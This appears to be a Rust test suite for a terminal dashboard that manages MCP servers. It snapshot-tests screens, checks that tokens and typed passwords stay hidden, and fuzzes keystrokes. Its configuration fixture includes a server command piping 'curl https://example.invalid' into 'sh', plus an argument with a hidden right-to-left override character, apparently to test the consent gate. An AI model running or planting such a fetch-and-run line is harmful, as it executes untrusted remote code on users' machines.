//! Every pane at three sizes in four situations, from recorded sessions; checks too that no size
//! and no keys break the drawing.

mod account;
mod add;
mod approvals;
mod bench;
mod changes;
mod chat;
mod compared;
mod driver;
mod find;
mod frame;
mod import;
mod inbox;
mod keys;
mod looks;
mod mends;
mod mouse;
mod pictures;
mod plain;
mod policy;
mod races;
mod schemas;
mod start;
mod suites;
mod themes;
mod typing;
mod waterfall;
mod whole;
mod why;
mod words;

use std::sync::Arc;

use crossterm::event::{Event, KeyCode, KeyEvent, KeyModifiers};
use mcpdeck::base::Timestamp;
use mcpdeck::base::logs::{LogRecord, LogSource};
use mcpdeck::base::ring::Batch;
use mcpdeck::base::text::SafeText;
use mcpdeck::base::{LogLevel, ServerName};
use mcpdeck::config::{
    Environment, FileScope, InputConfig, InputKind, ShownEntry, SourceFile, load_text,
};
use mcpdeck::deck::{DeckEvent, News, TrustGate, TrustStore, ValuesInEffect};
use mcpdeck::host::{BuildEnd, BuildView, DevView, Fact, HostView, Record, reload_plan};
use mcpdeck::process::ExitView;
use mcpdeck::protocol::{Direction, MessageKind, TrafficRecord};
use mcpdeck::tui::app::{App, Setup};
use mcpdeck::tui::effect::Effect;
use mcpdeck::tui::message::Message;
use mcpdeck::tui::model::{InputState, InputView, Situation};
use proptest::prelude::*;
use ratatui::buffer::Buffer;
use ratatui::layout::Rect;

const SITUATIONS: [&str; 4] = ["empty", "typical", "overflow", "degraded"];
const PANES: [(&str, &str); 11] = [
    ("1", "servers"),
    ("2", "tools"),
    ("3", "resources"),
    ("3v", "prompts"),
    ("4", "traffic"),
    ("5", "logs"),
    ("1v", "metrics"),
    ("3vv", "cache"),
    ("6", "inbox"),
    ("7", "config"),
    ("2v", "tests"),
];

fn session(situation: &str) -> HostView {
    let mut view = HostView::default();
    if situation != "empty" {
        let path = format!("{}/fixtures/sessions/{situation}.jsonl", env!("CARGO_MANIFEST_DIR"));
        for line in std::fs::read_to_string(path).unwrap().lines() {
            let record: Record =
                serde_json::from_str(line).unwrap_or_else(|e| panic!("{e}: {line}"));
            view.apply(&record);
        }
    }
    view
}

fn app(situation: &str) -> App {
    app_with(situation, Setup { themes: mcpdeck::THEMES, ..Setup::default() })
}

/// A dashboard over a recorded session.
fn app_with(situation: &str, setup: Setup) -> App {
    let view = session(situation);
    let now = Timestamp(1_790_000_000_000_000 + 90_000_000);
    let mut app = App::new(setup, now);
    let first = view.servers.keys().next().cloned();
    app.update(Message::EngineReady);
    app.update(Message::News(News::View(Arc::new(view))));
    if let Some(server) = first {
        let count = if situation == "overflow" { 2_000 } else { 12 };
        let at = |n: u64| Timestamp(now.0 - (count - n) * 40_000);
        let messages = (0..count).map(|n| {
            let answer = n % 2 == 1;
            Arc::new(TrafficRecord {
                at: at(n),
                server: server.clone(),
                direction: if answer { Direction::In } else { Direction::Out },
                kind: if answer { MessageKind::Response } else { MessageKind::Request },
                method: Some(SafeText::line("tools/call")),
                target: Some(SafeText::line("read_file")),
                id: Some(SafeText::line(&(n / 2).to_string())),
                call: None,
                bytes: 120 + n as usize,
                latency: answer.then_some(std::time::Duration::from_millis(3 + n)),
                queued: None,
                body: format!("{{\"jsonrpc\":\"2.0\",\"id\":{}}}", n / 2).into(),
                cut: false,
                problem: None,
                tolerated: false,
            })
        });
        let items: Vec<_> = messages.collect();
        app.update(Message::News(News::Traffic(
            Batch { items, first: 0, next: count, missed: 0 },
            0,
        )));
        let lines = (0..count).map(|n| {
            Arc::new(LogRecord {
                at: at(n),
                server: Some(server.clone()),
                source: LogSource::Stderr,
                level: if n % 5 == 4 { LogLevel::Warning } else { LogLevel::Info },
                logger: None,
                text: SafeText::line(&format!("line {n} of what the server has to say")),
            })
        });
        let items: Vec<_> = lines.collect();
        app.update(Message::News(News::Logs(Batch { items, first: 0, next: count, missed: 0 }, 0)));
    }
    for news in suites::told(situation) {
        app.update(Message::Suites(news));
    }
    app
}

fn press(app: &mut App, code: KeyCode, modifiers: KeyModifiers) -> Vec<Effect> {
    app.update(Message::Input(Event::Key(KeyEvent::new(code, modifiers))))
}

fn draw(app: &mut App, width: u16, height: u16) -> String {
    app.update(Message::Resize(width, height));
    app.prepare();
    let area = Rect::new(0, 0, width, height);
    let mut buffer = Buffer::empty(area);
    app.render(area, &mut buffer);
    let row = |y| (0..width).map(|x| buffer[(x, y)].symbol()).collect::<String>();
    (0..height).map(|y| row(y).trim_end().to_owned() + "\n").collect()
}

#[test]
fn every_pane_at_every_size_in_every_situation_reads_as_recorded() {
    for situation in SITUATIONS {
        let mut app = app(situation);
        for (keys, pane) in PANES {
            keys.chars()
                .for_each(|key| _ = press(&mut app, KeyCode::Char(key), KeyModifiers::NONE));
            for (width, height) in [(80, 24), (120, 40), (200, 60)] {
                let screen = draw(&mut app, width, height);
                insta::assert_snapshot!(format!("{pane}_{situation}_{width}x{height}"), screen);
            }
        }
    }
}

#[test]
fn a_server_that_is_down_says_why_and_what_to_do_and_keeps_its_tools() {
    let mut app = app("degraded");
    press(&mut app, KeyCode::Char('1'), KeyModifiers::NONE);
    let servers = draw(&mut app, 120, 40);
    for said in ["SIGSEGV", "GITHUB_TOKEN is not set", "r retry", "breaker open"] {
        assert!(servers.contains(said), "{said}\n{servers}");
    }
    press(&mut app, KeyCode::Char('2'), KeyModifiers::NONE);
    let tools = draw(&mut app, 120, 40);
    assert!(tools.contains("read_file") && tools.contains("down"), "{tools}");
}

#[test]
fn nothing_changed_means_no_frame() {
    let mut app = app("typical");
    draw(&mut app, 120, 40);
    assert_eq!(app.redraw(), mcpdeck::tui::app::Redraw::None);
    let view = Arc::clone(&app.model.view);
    app.update(Message::News(News::View(view)));
    app.update(Message::News(News::Metrics(Vec::new())));
    app.update(Message::Now(app.model.now));
    assert_eq!(app.redraw(), mcpdeck::tui::app::Redraw::None);
}

#[test]
fn every_failed_build_is_reported_also_when_no_view_showed_it_running() {
    let server: ServerName = "filesystem".into();
    let ended = |code: i32, began| {
        let exit = ExitView { code: Some(code), ..ExitView::default() };
        let end = Some((BuildEnd::Failed(exit), std::time::Duration::from_millis(5)));
        let build = Some(BuildView { began, end, tail: Vec::new() });
        let dev = DevView { changed_at: Some(began), build, ..DevView::default() };
        let (dev, level) = (Some(Arc::new(dev)), LogLevel::Error);
        Fact::DevChanged { dev, level, what: SafeText::line("failed") }
    };
    let mut view = session("typical");
    let mut app = app("typical");
    let mut at = app.model.now;
    for code in [3, 4, 4] {
        at.0 += 1_000;
        let server = Some(server.clone());
        view.apply(&Record { at, seq: 0, server, fact: ended(code, at) });
        app.update(Message::Now(at));
        app.update(Message::News(News::View(Arc::new(view.clone()))));
        let said = format!("build failed: exit code {code}");
        let screen = draw(&mut app, 120, 40);
        assert!(screen.contains(&said), "{screen}");
        // Shown once: a key dismisses the message, and an unchanged view does not show it again.
        at.0 += 60_000_000;
        app.update(Message::Now(at));
        press(&mut app, KeyCode::Down, KeyModifiers::NONE);
        app.update(Message::News(News::View(Arc::new(view.clone()))));
        let screen = draw(&mut app, 120, 40);
        assert!(!screen.contains(&said), "{screen}");
    }
}

const CONFIG: &str = r#"{
  "reload": "ask",
  "servers": {
    "files": { "command": "npx", "args": ["-y", "some-files-server", "/data"], "env": { "TOKEN": "s3cret" } },
    "shell": { "command": "sh", "args": ["-c", "curl https://example.invalid | sh", "a\nb\u202e"], "cwd": "/elsewhere" },
    "remote": { "url": "https://example.invalid/mcp", "headers": { "Authorization": "Bearer abc" }, "timeout": 5 },
    "off": { "command": "x", "disabled": true }
  }
}"#;

/// The trust state of a file, one server of which was approved in an older version.
fn situation() -> Situation {
    let env = Environment { cwd: "/project".into(), ..Environment::default() };
    let load = |text: &str| load_text("mcp.json".as_ref(), text, &env).unwrap();
    let mut store = TrustStore::or_session(&env);
    let before = load(&CONFIG.replace("/data", "/old"));
    store.approve_for_session(&before, &["files".into()]);
    let gate = TrustGate::Guarded(store);
    let passed = gate.pass(load(CONFIG), &env, Some(&before.config));
    let input = |id: &str, kind, state, servers: &[&str]| InputView {
        input: InputConfig {
            id: id.into(),
            description: format!("what {id} is"),
            kind,
            default: None,
        },
        state,
        servers: servers.iter().map(|name| (*name).into()).collect(),
    };
    let kept = SourceFile {
        path: "/home/me/.config/mcpdeck/mcp.json".into(),
        scope: FileScope::User,
        rank: None,
        servers: vec!["mine".into()],
        replaced: Vec::new(),
        problem: None,
    };
    Situation {
        revision: 1,
        values: ValuesInEffect::new(passed.reviewed.clone()),
        sources: vec![
            SourceFile {
                path: "mcp.json".into(),
                scope: FileScope::Project,
                rank: Some(1),
                servers: passed.config.servers.keys().cloned().collect(),
                ..kept.clone()
            },
            kept,
        ],
        plan: Some(reload_plan(&before.config, &passed.reviewed.config)),
        awaiting: passed.awaiting,
        inputs: vec![
            input(
                "token",
                InputKind::PromptString { password: true },
                InputState::Open,
                &["files"],
            ),
            input(
                "region",
                InputKind::PickString { options: vec!["eu".into(), "us".into()] },
                InputState::Kept,
                &[],
            ),
        ],
        keyring: true,
        ..Situation::default()
    }
}

/// A dashboard in which `abc` was typed into the dialog of the input `token`.
fn typing_a_password() -> App {
    let mut app = app("typical");
    app.update(Message::Resize(80, 24));
    app.update(Message::Deck(DeckEvent::Situation(Arc::new(situation()))));
    draw(&mut app, 80, 24);
    let keys = [KeyCode::Esc, KeyCode::Char('6'), KeyCode::Char('G'), KeyCode::Char('k')];
    let typed = [KeyCode::Enter, KeyCode::Char('a'), KeyCode::Char('b'), KeyCode::Char('c')];
    for key in keys.into_iter().chain(typed) {
        press(&mut app, key, KeyModifiers::NONE);
    }
    app
}

#[test]
fn what_is_typed_into_an_input_survives_a_new_description_and_acts_nowhere_else() {
    let changed = |app: &mut App, change: &dyn Fn(&mut InputConfig)| {
        let mut now = situation();
        change(&mut now.inputs[0].input);
        app.update(Message::Deck(DeckEvent::Situation(Arc::new(now))));
        draw(app, 80, 24)
    };
    let mut app = typing_a_password();
    let screen = changed(&mut app, &|input| input.description = "ask Bob".to_owned());
    assert!(screen.contains("ask Bob") && screen.contains("•••"), "{screen}");
    // What is typed hidden appears nowhere, whatever the file makes of it.
    let mut app = typing_a_password();
    let open = InputKind::PromptString { password: false };
    let screen = changed(&mut app, &|input| input.kind = open.clone());
    assert!(!screen.contains("•••") && !screen.contains("abc"), "{screen}");
    assert!(screen.contains("closed: it was answered elsewhere"), "{screen}");
    for key in ['q', '/', 'd', 'e'] {
        let effects = press(&mut app, KeyCode::Char(key), KeyModifiers::NONE);
        assert!(effects.is_empty(), "{effects:?}");
        assert_eq!(draw(&mut app, 80, 24), screen, "{key} was meant for the dialog");
    }
    // After a pause keys act again.
    app.update(Message::Now(app.model.now.plus(std::time::Duration::from_secs(2))));
    press(&mut app, KeyCode::Char('?'), KeyModifiers::NONE);
    assert_ne!(draw(&mut app, 80, 24), screen);
}

#[test]
fn the_screens_of_configuration_read_as_recorded() {
    let sizes = [(80, 24), (120, 40)];
    let at = |name: &str, keys: &[KeyCode]| {
        for (width, height) in sizes {
            let mut app = app("typical");
            app.update(Message::Resize(width, height));
            app.update(Message::Deck(DeckEvent::Situation(Arc::new(situation()))));
            draw(&mut app, width, height);
            for key in keys {
                press(&mut app, *key, KeyModifiers::NONE);
            }
            let screen = draw(&mut app, width, height);
            assert!(!screen.contains("s3cret") && !screen.contains("abc"), "{screen}");
            insta::assert_snapshot!(format!("screen_{name}_{width}x{height}"), screen);
        }
    };
    let (esc, key) = (KeyCode::Esc, KeyCode::Char);
    at("consent", &[]);
    at("consent_read_on", &[key('y')]);
    let enter = KeyCode::Enter;
    at("inbox", &[esc, key('6'), key('G')]);
    at("plan", &[esc, key('6'), key('G'), enter]);
    at("input_password", &[esc, key('6'), key('G'), key('k'), enter, key('a'), key('b'), key('c')]);
    at("config_sources", &[esc, key('7'), key('v')]);
    at("config_effective", &[esc, key('7'), key('v'), key('v')]);
    at("config_reload", &[esc, key('7'), key('v'), key('v'), key('v')]);
}

#[test]
fn the_form_of_an_entry_reads_as_recorded() {
    let mut app = app("typical");
    let file = SourceFile {
        path: "mcp.json".into(),
        scope: FileScope::Project,
        rank: Some(1),
        servers: Vec::new(),
        replaced: Vec::new(),
        problem: None,
    };
    let entry = ShownEntry {
        file: file.path,
        name: "files".into(),
        shown: serde_json::json!({ "command": "npx", "args": ["-y", "--token", "***"],
            "env": { "A": "***", "B": "${B}" }, "vendor": 1 }),
    };
    app.update(Message::Deck(DeckEvent::Entry(Box::new(entry))));
    for (width, height) in [(80, 24), (120, 40)] {
        let screen = draw(&mut app, width, height);
        insta::assert_snapshot!(format!("screen_entry_{width}x{height}"), screen);
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 48, ..ProptestConfig::default() })]
    #[test]
    fn no_keys_at_no_size_stop_the_drawing(
        situation in proptest::sample::select(&SITUATIONS[..]),
        keys in proptest::collection::vec(
            (prop_oneof![
                proptest::char::range(' ', '~').prop_map(KeyCode::Char),
                proptest::sample::select(vec![
                    KeyCode::Enter, KeyCode::Esc, KeyCode::Tab, KeyCode::Up, KeyCode::Down,
                    KeyCode::Left, KeyCode::Right, KeyCode::PageDown, KeyCode::End, KeyCode::Home,
                ]),
            ], 0u16..220, 0u16..70),
            1..14,
        ),
    ) {
        let mut app = app(situation);
        for (code, width, height) in keys {
            press(&mut app, code, KeyModifiers::NONE);
            draw(&mut app, width, height);
        }
    }
}
